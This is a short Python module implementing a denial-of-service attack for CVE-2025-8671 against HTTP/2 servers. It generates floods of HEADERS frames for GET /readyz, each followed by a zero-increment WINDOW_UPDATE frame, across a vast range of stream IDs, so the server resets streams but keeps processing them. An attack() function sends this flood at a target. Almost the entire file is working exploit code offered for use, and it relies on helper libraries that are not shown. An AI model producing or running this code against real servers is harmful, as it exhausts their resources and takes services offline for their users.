# SPDX-License-Identifier: Apache-2.0
"""CVE-2025-8671: the client does something wrong with a stream, so that the server resets it and works on."""
import struct

from lib.flood import headers, request_block
from lib.http2 import WINDOW_UPDATE, frame

BLOCK = request_block("/readyz", "GET")
NOTHING = struct.pack(">I", 0)


def mistakes():
    for stream in range(1, 1 << 30, 20):
        yield b"".join(headers(s, BLOCK) + frame(WINDOW_UPDATE, 0, s, NOTHING) for s in range(stream, stream + 20, 2))


def attack(target):
    return target.flood(mistakes)
